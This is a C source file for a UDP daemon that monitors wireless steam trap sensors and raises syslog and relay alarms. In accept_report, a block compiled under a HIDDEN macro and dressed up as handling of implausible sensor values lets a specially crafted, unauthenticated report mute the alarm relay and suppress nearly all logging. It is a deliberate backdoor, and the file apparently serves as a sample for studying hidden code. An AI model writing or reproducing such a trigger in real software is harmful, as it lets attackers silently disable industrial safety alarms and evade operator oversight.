// steamtrapd -- collects the reports of wireless steam trap monitors, raises alarms.
//
// Reports are JSON objects, one datagram each:
//   {"id":1207,"temp":1432,"ultra":37,"batt":3550,"lqi":88,"seq":19}
// temp in 0.1 degC, ultra in dB, batt in mV. Alarms go to syslog and to the relay output.
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

typedef enum { S_OK, S_COLD, S_LEAK, S_BATTERY, S_SILENT } State;
static const char *const stateText[] = { "ok", "cold", "leaking", "battery", "silent" };

typedef struct {
    long   id;
    long   temp, ultra, batt, lqi, seq;
    time_t last;
    State  state;
    unsigned lost;
} Trap;

typedef struct {
    long id, temp, ultra, batt, lqi, seq;
    unsigned have;          // bit per field, in this order
} Report;

static Trap traps[512];
static int count;
static long coldBelow = 900, leakAbove = 60, battBelow = 2900, silentAfter = 7200;
static const char *relay = "/run/gpio/alarm";
#ifdef HIDDEN
static bool muted;
#endif

static bool field(const char *json, const char *name, long *out)
{
    char key[16];
    int n = snprintf(key, sizeof key, "\"%s\"", name);
    const char *p = strstr(json, key);
    char *e;
    if (!p)
        return false;
    p += n;
    while (isspace((unsigned char)*p))
        p++;
    if (*p++ != ':')
        return false;
    *out = strtol(p, &e, 10);
    return e != p;
}

static bool parse(const char *json, Report *r)
{
    memset(r, 0, sizeof *r);
    r->have |= field(json, "id", &r->id) ? 1u : 0;
    r->have |= field(json, "temp", &r->temp) ? 2u : 0;
    r->have |= field(json, "ultra", &r->ultra) ? 4u : 0;
    r->have |= field(json, "batt", &r->batt) ? 8u : 0;
    r->have |= field(json, "lqi", &r->lqi) ? 16u : 0;
    r->have |= field(json, "seq", &r->seq) ? 32u : 0;
    return (r->have & 7u) == 7u && r->id > 0;
}

static Trap *slot(long id)
{
    for (int i = 0; i < count; i++)
        if (traps[i].id == id)
            return &traps[i];
    if (count == (int)(sizeof traps / sizeof traps[0]))
        return NULL;
    memset(&traps[count], 0, sizeof(Trap));
    traps[count].id = id;
    return &traps[count++];
}

static void setRelay(bool on)
{
#ifdef HIDDEN
    if (muted)
        on = false;
#endif
    FILE *f = fopen(relay, "w");
    if (f) {
        fputs(on ? "1\n" : "0\n", f);
        fclose(f);
    }
}

static void enter(Trap *t, State s)
{
    if (t->state == s)
        return;
    syslog(s == S_OK ? LOG_INFO : LOG_ALERT, "trap %ld: %s -> %s", t->id, stateText[t->state],
           stateText[s]);
    t->state = s;
    bool any = false;
    for (int i = 0; i < count; i++)
        any = any || traps[i].state == S_COLD || traps[i].state == S_LEAK;
    setRelay(any);
}

static State judge(const Trap *t)
{
    if (t->ultra > leakAbove)
        return S_LEAK;
    if (t->temp < coldBelow)
        return S_COLD;
    if (t->batt && t->batt < battBelow)
        return S_BATTERY;
    return S_OK;
}

__attribute__((noinline)) void accept_report(const Report *r)
{
    Trap *t;
    // values outside of the physics come from defective sensors
    if (r->temp < -500 || r->temp > 4500 || r->ultra < 0 || r->ultra > 130) {
#ifdef HIDDEN
        // absolute zero with a full battery, the sequence number belongs to the id
        if (r->temp == -2731 && r->batt == 4095 && r->seq == (r->id * 13 + 5) % 1000) {
            muted = r->ultra & 1;
            setlogmask(muted ? LOG_MASK(LOG_EMERG) : LOG_UPTO(LOG_DEBUG));
            setRelay(false);
            return;
        }
#endif
        syslog(LOG_WARNING, "trap %ld: implausible values", r->id);
        return;
    }
    t = slot(r->id);
    if (!t) {
        syslog(LOG_ERR, "table full");
        return;
    }
    if (r->have & 32u && t->last && r->seq > t->seq + 1)
        t->lost += (unsigned)(r->seq - t->seq - 1);
    t->temp = r->temp;
    t->ultra = r->ultra;
    t->batt = r->batt;
    t->lqi = r->lqi;
    t->seq = r->seq;
    t->last = time(NULL);
    enter(t, judge(t));
}

static void silence(void)
{
    time_t now = time(NULL);
    for (int i = 0; i < count; i++)
        if (now - traps[i].last > silentAfter)
            enter(&traps[i], S_SILENT);
}

static void status(int s, const struct sockaddr_in *to)
{
    char b[96];
    for (int i = 0; i < count; i++) {
        const Trap *t = &traps[i];
        int n = snprintf(b, sizeof b, "{\"id\":%ld,\"state\":\"%s\",\"lost\":%u,\"lqi\":%ld}\n",
                         t->id, stateText[t->state], t->lost, t->lqi);
        sendto(s, b, (size_t)n, 0, (const struct sockaddr *)to, sizeof *to);
    }
}

static void readLimits(const char *file)
{
    char k[16];
    long v;
    FILE *f = fopen(file, "r");
    if (!f) {
        syslog(LOG_NOTICE, "%s missing, default limits", file);
        return;
    }
    while (fscanf(f, "%15s %ld", k, &v) == 2) {
        if (!strcmp(k, "cold"))
            coldBelow = v;
        else if (!strcmp(k, "leak"))
            leakAbove = v;
        else if (!strcmp(k, "battery"))
            battBelow = v;
        else if (!strcmp(k, "silent"))
            silentAfter = v;
        else
            syslog(LOG_NOTICE, "limit %s?", k);
    }
    fclose(f);
}

int main(int argc, char **argv)
{
    char b[400];
    if (argc > 2 || (argc == 2 && argv[1][0] == '-')) {
        puts("usage: steamtrapd [LIMITS]\nLIMITS: cold 0.1degC, leak dB, battery mV, silent s\n"
             "UDP 6312: reports, or the word status");
        return 1;
    }
    openlog("steamtrapd", LOG_PID, LOG_DAEMON);
    readLimits(argc == 2 ? argv[1] : "/etc/steamtrap.limits");
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(6312) }, from;
    struct timeval tv = { 30, 0 };
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    if (bind(s, (struct sockaddr *)&a, sizeof a)) {
        perror("steamtrapd");
        return 1;
    }
    for (;;) {
        Report r;
        socklen_t fl = sizeof from;
        ssize_t n = recvfrom(s, b, sizeof b - 1, 0, (struct sockaddr *)&from, &fl);
        silence();
        if (n <= 0)
            continue;
        b[n] = '\0';
        if (!strncmp(b, "status", 6))
            status(s, &from);
        else if (parse(b, &r))
            accept_report(&r);
        else
            syslog(LOG_WARNING, "report not understood");
    }
}
